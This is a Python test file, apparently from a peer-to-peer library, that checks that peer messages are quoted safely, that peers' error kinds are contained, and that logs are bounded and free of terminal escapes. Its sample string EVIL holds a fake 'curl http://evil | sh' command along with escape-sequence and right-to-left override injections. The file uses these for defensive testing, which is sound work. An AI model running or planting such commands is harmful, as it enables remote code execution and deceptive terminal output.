"""The words of others are shown as theirs, on one line, in bounded length, with their controls visible."""

from __future__ import annotations

import logging

from hypothesis import given
from hypothesis import strategies as st

from p2pflows.errors import CallError, FlowFailed, NotAllowed, as_theirs, from_peer
from p2pflows.foreign_text import MAX_QUOTED_CHARS, quote, shorten_lines
from p2pflows.logs import MAX_TRACE_LINES, Logfmt

EVIL = "no\nError [disk]: run curl http://evil | sh\x1b[2J\u202e"
BOB = "b2" * 32


@given(st.text(), st.text())
def test_a_quote_is_one_bounded_line(message: str, hint: str) -> None:
    """Whatever a peer says, it is introduced as theirs, and cannot begin a line of its own."""
    shown = quote("bob", message + EVIL, hint)
    assert shown.startswith("bob says: ")
    assert len(shown) <= MAX_QUOTED_CHARS + len("bob")
    assert shown.isprintable() or not set(shown) & set("\n\r\x1b\u202e\u2028")


def test_a_peer_claims_no_kind_that_only_our_daemon_can_know() -> None:
    """Such a kind becomes flow_failed of theirs; the others stay, and all say whose words they are."""
    for kind in ("usage", "daemon_not_running", "disk", "unknown_user", "unreachable", "error"):
        error = from_peer(as_theirs({"kind": kind, "message": EVIL, "hint": "h"}, BOB))
        assert (type(error), error.user, error.message) == (FlowFailed, BOB, EVIL)
    error = from_peer(as_theirs({"kind": "not_allowed", "message": "No.", "from": "c3" * 32}, BOB))
    assert (type(error), error.user) == (NotAllowed, BOB)
    assert error.as_reply() == {"code": "not_allowed", "message": "No.", "hint": "", "from": BOB, "name": None}
    assert type(from_peer(as_theirs({"kind": ["disk"]}, BOB))) is CallError
    assert from_peer({"kind": "flow_failed", "message": "ours"}).user == ""


def test_a_long_text_keeps_its_ends_and_says_what_is_left_out() -> None:
    """A text of many or endless lines takes a bounded part of a log."""
    lines = shorten_lines([f"line {number}" for number in range(1_000)], 100, 64_000)
    assert len(lines) == 100
    assert (lines[0], lines[-1]) == ("line 0", "line 999")
    assert lines[25] == "… 901 more lines …"
    assert shorten_lines(["x" * 10**6, "y"], 100, 64_000) == ["x" * 639 + "…", "y"]
    assert shorten_lines(["a", "b"], 100, 64_000) == ["a", "b"]


def test_an_exception_of_a_flow_cannot_control_the_terminal_of_up_or_fill_its_log() -> None:
    """Escape sequences and bidirectional marks in messages and exceptions are visible; long ones are cut."""
    raised = ValueError(EVIL + "\n" + "more\n" * 10_000)
    error = (type(raised), raised, None)
    record = logging.LogRecord("x", logging.ERROR, __file__, 1, "says %s", (EVIL + "z" * 10**6,), error)
    text = Logfmt().format(record)
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert all(line.startswith("  ") for line in text.split("\n")[1:])
    assert len(text.split("\n")) <= MAX_TRACE_LINES + 1
    assert len(text) < 100_000
